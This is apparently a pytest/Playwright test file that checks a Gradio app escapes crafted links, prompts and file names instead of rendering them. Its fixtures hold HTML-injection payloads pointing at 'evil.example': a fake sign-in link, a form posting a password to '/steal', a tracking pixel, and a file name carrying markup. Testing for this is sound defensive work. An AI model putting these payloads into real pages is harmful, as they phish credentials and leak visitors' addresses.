"""Nothing from a URL or a visitor is rendered as HTML: crafted links, prompts and file names show as text.

Gradio renders a message toast as (sanitised) HTML and a Markdown value as Markdown, so before the fix
a link's ``?instance=`` put a styled fake "sign in again" link, a password form and a remote image (which
tells a third party the visitor's address) on the app's own origin. Each test sends a payload that would
build such elements and checks, in the real browser, that the page shows the payload's characters and
holds no ``<a>``, ``<form>``, ``<input>`` or ``<img>`` made from it, and that nothing was fetched from
the payload's address.
"""

from __future__ import annotations

from urllib.parse import quote

import pytest
from conftest import requests_to
from playwright.sync_api import expect

EVIL = "evil.example"
PAYLOAD = (f'<a href="https://{EVIL}/login" style="display:block;background:#c00">Session expired: sign in '
           f'again</a><form action="https://{EVIL}/steal"><input type="password" name="pw"></form>'
           f'<img src="https://{EVIL}/pixel.png"> [click here](https://{EVIL}/md) '
           f'![tracker](https://{EVIL}/md.png) <https://{EVIL}/auto> https://{EVIL}/bare www.{EVIL} '
           f'mail@{EVIL} **bold** $$x$$')
ELEMENTS = "a, form, input, img, button, iframe, em, svg, math, .katex, h1, h2, h3, li, table, code"


@pytest.fixture
def fetched(page) -> list[str]:
    """Every request the page makes to the payload's host (answered with nothing)."""
    return requests_to(page, EVIL)


def assert_only_text(node, *expected_text: str, own_bold: tuple[str, ...] = ()) -> None:
    """``node`` shows each expected text and holds no element made from the payload (bold only the
    app's own labels ``own_bold``)."""
    expect(node).to_be_visible()
    for text in expected_text:
        expect(node).to_contain_text(text)
    made = node.locator(ELEMENTS)
    assert made.count() == 0, [made.nth(i).evaluate("e => e.outerHTML") for i in range(made.count())]
    assert sorted(node.locator("strong, b").all_inner_texts()) == sorted(own_bold)


# A link's value is quoted shortened (its first 27 and last 28 characters around "..."), so the crafted
# link keeps a whole element at each end, where the shortened quote still holds it, and the PAYLOAD between
HEAD, TAIL = f"<img src=//{EVIL}/p> ", f"<a href=//{EVIL}>a</a>"
LONG_PAYLOAD = HEAD + PAYLOAD * 50 + TAIL  # about 25,000 characters


@pytest.mark.parametrize("param, said", [("instance", "The link names instance"), ("model", "The link names model")])
def test_a_crafted_link_shows_its_value_shortened_as_text_in_the_warning(page, app, fetched, param, said):
    """The warning quoted the whole value (25,000 characters here); it shows the value's start and end."""
    page.goto(f"{app['url']}?tab=explore&{param}={quote(LONG_PAYLOAD)}")
    toast = page.locator("[data-testid='toast-text']").filter(has_text=said)
    assert_only_text(toast, f"{said} '{HEAD}...{TAIL}'")
    assert "Session expired" not in toast.inner_text() and len(toast.inner_text()) < 400
    assert page.locator("input[type=password]").count() == 0
    assert fetched == []


def test_your_own_prompt_is_shown_as_the_text_you_typed(page, app, fetched):
    page.goto(app["url"] + "?tab=explore")
    page.get_by_role("button", name="Your own instance (choose 'your own' above)").click()
    page.get_by_label("UEG: text-to-image prompt").fill(PAYLOAD + "\n# heading\n- item\n| a | b |\n|---|---|")
    page.locator("#ex-instance input").click()
    page.get_by_role("option", name="your own (below)").click(timeout=10_000)
    page.locator("#ex-run").click()
    text = page.locator("#ex-instance-text")
    expect(text).to_contain_text("Prompt:")
    uid = text.locator("strong").first.inner_text()
    assert_only_text(text, f'<form action="https://{EVIL}/steal">', f"![tracker](https://{EVIL}/md.png)",
                     f"<https://{EVIL}/auto>", f"www.{EVIL}", "**bold**", "$$x$$", "# heading", "| a | b |",
                     own_bold=(uid, "Prompt:"))
    expect(page.locator("#ex-direct-image img")).to_have_count(1)  # the run itself went ahead
    for column in ("#ex-direct-status", "#ex-stepwise-status", "#ex-direct-verdict"):
        assert page.locator(column).locator("form, input, img, iframe").count() == 0
    assert page.locator("input[type=password]").count() == 0
    assert fetched == []


def test_a_crafted_file_name_shows_as_text_in_the_refusal(page, app, tmp_path, fetched):
    upload = tmp_path / f'<img src="https:{EVIL}"><a href="https:{EVIL}">sign in<a>.png'
    upload.write_text("not an image at all")
    page.goto(app["url"] + "?tab=explore")
    page.locator("#ex-track").get_by_label("GEU", exact=True).check()
    page.get_by_role("button", name="Your own instance (choose 'your own' above)").click()
    page.get_by_label("GEU: question").fill("What is it?")
    page.get_by_label("GEU: 4 options, one per line").fill("a\nb\nc\nd")
    page.locator("#ex-instance input").click()
    page.get_by_role("option", name="your own (below)").click(timeout=10_000)
    page.locator("#ex-custom-image input[type=file]").set_input_files(str(upload))
    page.locator("#ex-run").click()
    refusal = page.locator("#ex-instance-text")  # said in place since board14 (before: a toast)
    expect(refusal).to_contain_text("not an image file")
    assert_only_text(refusal, f'<img src="https:{EVIL}"><a href="https:{EVIL}">sign in<a>.png',
                     own_bold=("Not run:",))
    assert fetched == []
